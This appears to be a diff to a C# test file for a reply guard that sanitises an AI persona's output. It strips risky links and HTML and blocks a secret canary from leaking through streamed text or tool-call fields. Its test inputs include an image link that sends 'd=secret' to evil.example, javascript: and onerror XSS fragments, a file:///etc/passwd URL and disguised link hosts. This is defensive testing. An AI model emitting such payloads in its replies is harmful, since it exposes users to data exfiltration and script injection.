@@ -35,7 +35,20 @@ public sealed class ReplyGuardTests
         { "See [my site](https://evil.example/x?q=1).", "See my site (evil.example)." },
         { "See https://evil.example/ada.example/notes.", "See evil.example." },
         { "See <https://evil.example/>.", "See evil.example." },
-        { "See www.evil.example/x or //evil.example/y now", "See www.evil.example or evil.example now" },
+        { "See www.evil.example/x now", "See www.evil.example now" },
+        { "See http:/evil.example/x now", "See evil.example now" },
+        { "https:/<img>/evil.example/p", "< img>/evil.example/p" },
+        { "![https://evil.example/p](x)", "evil.example" },
+        { "[https://93.184.216.34/x](https://a.example)", "(a.example)" },
+        { "[click](https://(@evil.example/p)", "click" },
+        { "[a [b] c](http://evil.example/p)", "[a [b] c] (evil.example)" },
+        { "[y](https://github.com/ada/..%2feve)", "y (github.com)" },
+        { "<scr<img>ipt src=x>", "< scr< img>ipt src=x>" },
+        { "<image src=x onerror=y> <div onclick=y> <eve@x.example>", "< image src=x onerror=y> < div onclick=y> < eve@x.example>" },
+        { "请看https://evil.example/x。再见", "请看evil.example。再见" },
+        { "请看 https://ada.example/notes。我在那里写。", "请看 https://ada.example/notes。我在那里写。" },
+        { "**https://ada.example/notes** |https://ada.example/notes|", "**https://ada.example/notes** |https://ada.example/notes|" },
+        { "x = a[0]//2; fns[name](event); [above](#section)", "x = a[0]//2; fns[name](event); [above](#section)" },
         { "[https://ada.example](https://evil.example)", "(evil.example)" },
         { "[bank.example](https://ada.example/notes)", "[ada.example](https://ada.example/notes)" },
         { "[x](https://github.com/eve)", "x (github.com)" },
@@ -43,13 +56,14 @@ public sealed class ReplyGuardTests
         { "[x](https://ada.example@evil.example/notes)", "x" },
         { "[x](https://ada.example.evil.example/notes)", "x (ada.example.evil.example)" },
         { "[x](http://ada.example:81/notes)", "x (ada.example)" },
-        { "[x](javascript:alert(1))", "[x](javascript:alert(1))" },
+        { "[x](javascript:alert(1))", "x)" },
         { "[x](data:text/html,hi)", "x" },
         { "[x](mailto:eve@evil.example)", "x" },
         { "![a map](https://ada.example/notes/map.png) here", "a map here" },
-        { "![](https://evil.example/p?d=secret)", "" },
-        { "<img src=https://evil.example/p> and <a href='https://evil.example'>x</a>", " and x" },
-        { "1 // 2, a/b and List<int>, 3 < 4 [not a link] [1] (see)", "1 // 2, a/b and List<int>, 3 < 4 [not a link] [1] (see)" },
+        { "a![](https://evil.example/p?d=secret)b", "a b" },
+        { "<img src=https://evil.example/p> <a href='https://x.example'>x</a>", "< img src=evil.example> < a href='x.example'>x</a>" },
+        { "1 // 2, a/b, 3 < 4 [not a link] [1] (see)", "1 // 2, a/b, 3 < 4 [not a link] [1] (see)" },
+        { "let x = '<b>'; List<int> <i>y</i> <script>z</script>", "let x = '<b>'; List<int> <i>y</i> < script>z< /script>" },
         { "What! A [[notes]] marker.", "What! A [[notes]] marker." },
     };
 
@@ -57,20 +71,24 @@ public sealed class ReplyGuardTests
     [MemberData(nameof(Links))]
     public void Links_lead_where_the_persona_says_and_nowhere_else(string written, string shown)
     {
-        // A parenthesis within an address is the one case in which nothing becomes of it: it has no host, and no client links to it.
-        var expected = shown.Replace("[x](javascript:alert(1))", "x", StringComparison.Ordinal);
-        Whole(written).Replace("[x](javascript:alert(1))", "x", StringComparison.Ordinal).ShouldBe(expected);
-        ByLetter(written).Replace("[x](javascript:alert(1))", "x", StringComparison.Ordinal).ShouldBe(expected);
+        Whole(written).ShouldBe(shown);
+
+        // Letter by letter, the name of a stranger's scheme is out before it is one; what follows it is the same.
+        var slowly = ByLetter(written);
+        SecretText.Normal(WithoutSchemes(slowly)).ShouldBe(SecretText.Normal(WithoutSchemes(shown)));
+        var isLinked = shown.Contains("://", StringComparison.Ordinal);
+        slowly.Contains("://", StringComparison.Ordinal).ShouldBe(isLinked);
+        (!isLinked || slowly == shown).ShouldBeTrue(slowly);
     }
 
     [Theory]
     [InlineData("ftp://evil.example/x", "evil.example")]
-    [InlineData("file:///etc/passwd", "")]
+    [InlineData("file:///etc/passwd", "etc/passwd")]
     [InlineData("[x](intent://evil.example)", "x (evil.example)")]
     public void Other_schemes_are_no_links(string written, string shown)
     {
         Whole(written).ShouldBe(shown);
-        ByLetter(written).ShouldNotContain("//");
+        ByLetter(written).ShouldNotContain("://");
     }
 
     [Theory]
@@ -169,17 +187,34 @@ public sealed class ReplyGuardTests
         var call = new ToolCall("1", "ask_visitor", "{}")
         {
             Clarification = new Clarification(
-                $"Is it {Canary} or [this](https://evil.example)?",
+                "Is it this or [this](https://evil.example)?",
                 ["Yes", "https://evil.example", "[No](https://evil.example)", "N\u202Eo"])
             {
                 Fields = ["Name", "www.evil.example"],
             },
         };
         var asked = new ReplyGuard(Ada).Check(call).Clarification!;
-        SecretText.Normal(asked.Question).ShouldNotContain("zebraquartz");
         asked.Question.ShouldNotContain("https:");
         asked.Options.ShouldBe(["Yes", "No"]);
         asked.Fields.ShouldBe(["Name"]);
+    }
+
+    [Theory]
+    [InlineData("{\"question\":\"x\",\"options\":[\"ZEBRA-\",\"QUARTZ-\",\"7719\"]}")]
+    [InlineData("{\"message\":\"Z\\u200BEBRA-QUARTZ-\\n7719\"}")]
+    public void What_a_visitor_is_shown_of_a_call_repeats_nothing(string arguments)
+    {
+        var call = new ToolCall("1", "leave_message", arguments) { Approval = ToolApproval.Visitor };
+        new ReplyGuard(Ada).Check(call).Refusal.ShouldNotBeNull();
+        new ReplyGuard(Ada).Check(call with { Approval = ToolApproval.Never }).Refusal.ShouldBeNull();
+    }
+
+    [Fact]
+    public void A_word_that_began_in_an_earlier_step_is_not_ended()
+    {
+        var guard = new ReplyGuard(Ada);
+        guard.Remember("Well: ZEBRA-QUARTZ-");
+        SecretText.Normal(guard.Write("7719 and done") + guard.Finish()).ShouldNotContain("7719");
     }
 
     [Fact]
@@ -193,6 +228,9 @@ public sealed class ReplyGuardTests
             guard.IsStopped.ShouldBeFalse(fact.Id);
         }
     }
+
+    private static string WithoutSchemes(string text)
+        => text.Replace("https", "", StringComparison.Ordinal).Replace("http", "", StringComparison.Ordinal);
 
     private static string Whole(string text)
     {
